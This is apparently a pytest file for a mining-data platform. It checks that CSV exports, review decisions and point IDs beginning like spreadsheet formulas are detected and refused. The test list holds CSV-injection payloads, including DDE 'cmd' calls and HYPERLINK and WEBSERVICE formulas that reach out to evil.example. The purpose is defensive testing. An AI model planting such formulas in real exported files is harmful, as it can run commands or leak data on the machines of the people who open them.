"""A table that people open in a spreadsheet runs nothing there."""

import io
import json
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest

from mining_platform.consoles import CommandError
from mining_platform.datasets import DATASETS
from mining_platform.point_files import PointsFile
from mining_platform.points import read_points
from mining_platform.reviews.decisions import Decision, problems
from mining_platform.sources.protocol import SourceError
from mining_platform.split_commands import _write
from mining_platform.spreadsheets import FormulaError, is_formula, write_csv
from tests.mining_platform.package_inputs import given_of, write, write_land_cover

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '-WEBSERVICE("http://evil.example")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
WORDS = [
    *("", "-5.1_-54.3", "-55.000000,-6.000000", "+55 91 99999", "- cloud over the pit", "-", "a=b", "no @ here", "(see map)"),
    *("32722_48000_960000_48_2024", "S2A_MSIL2A_20240601T135711", "O'Neil | Sons!", "pit = lake"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_is_a_formula(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize("text", [*WORDS, -2, 1.5, None, float("nan")])
def test_ids_numbers_and_words_are_none(text: object) -> None:
    assert not is_formula(text)


@pytest.mark.parametrize("dtype", [object, "str", "category"])
def test_a_table_with_a_formula_is_not_written(dtype: str, tmp_path: Path) -> None:
    table = pd.DataFrame({"id": ["a", "b"], "reason": pd.Series(["", FORMULAS[0]], dtype=dtype), "share": [-0.5, -1.0]})
    with pytest.raises(FormulaError, match=r"manifest\.csv, column 'reason': .*would be run.*Rename it at its source"):
        write_csv(table, tmp_path / "manifest.csv")
    assert list(tmp_path.iterdir()) == []


def test_a_column_that_is_a_formula_is_not_written_either() -> None:
    with pytest.raises(FormulaError, match="the table, column '=1\\+1'"):
        write_csv(pd.DataFrame({"=1+1": [1]}), io.BytesIO())


def test_other_tables_are_written_as_they_are() -> None:
    content = io.BytesIO()
    write_csv(pd.DataFrame({"id": WORDS, "value": range(len(WORDS))}), content)
    read = pd.read_csv(io.BytesIO(content.getvalue()), keep_default_na=False)
    assert read["id"].tolist() == WORDS


@pytest.mark.parametrize("layout", ["proportion-ranges", "smallmines", "sites"])
def test_no_package_holds_a_reason_that_would_be_run(layout: str, tmp_path: Path) -> None:
    given = given_of(write_land_cover(tmp_path / "map.tif"))
    manifest = given.manifest.assign(reviewer="Ana", review_reason=FORMULAS[0])
    with pytest.raises(FormulaError, match="column 'review_reason'"):
        write(tmp_path / "package", layout, replace(given, manifest=manifest))


def test_a_decision_whose_words_would_be_run_is_not_taken_down() -> None:
    dataset = DATASETS["sim_ranges"]
    window = f"32721_48000_960000_{dataset.px}"
    sound = Decision("sim_ranges", dataset.regions[0], dataset.years[0], window, "reject", "", "Ana", "- cloud", "")
    assert not list(problems(sound, dataset))
    for change in ({"reason": FORMULAS[0]}, {"reviewer": FORMULAS[1]}):
        (told,) = problems(replace(sound, **change), dataset)
        assert "begins like a formula, which a spreadsheet would run" in told


def test_a_point_whose_id_would_be_run_is_refused(tmp_path: Path) -> None:
    feature = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [-55, -6]}}
    rows = [{**feature, "properties": {"id": name, "kind": "mine"}} for name in ("=1+1", "-5.1_-54.3")]
    (tmp_path / "points.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": rows}))
    points = PointsFile(str(tmp_path / "points.geojson"), "kind", ("mine",), ("farm",), id_column="id")
    with pytest.raises(SourceError, match=r"1 points have an id that a spreadsheet would run: =1\+1"):
        read_points(points, 2024)


def test_a_split_of_ids_that_would_be_run_goes_to_parquet_alone(tmp_path: Path) -> None:
    sides = pd.DataFrame({"patch_id": ["=1+1"], "split": ["train"], "group": ["a"]})
    with pytest.raises(CommandError, match=r"splits\.csv, column 'patch_id'.*A \.parquet file holds any words"):
        _write(sides, tmp_path / "splits.csv")
    _write(sides, tmp_path / "splits.parquet")
    assert pd.read_parquet(tmp_path / "splits.parquet")["patch_id"].tolist() == ["=1+1"]
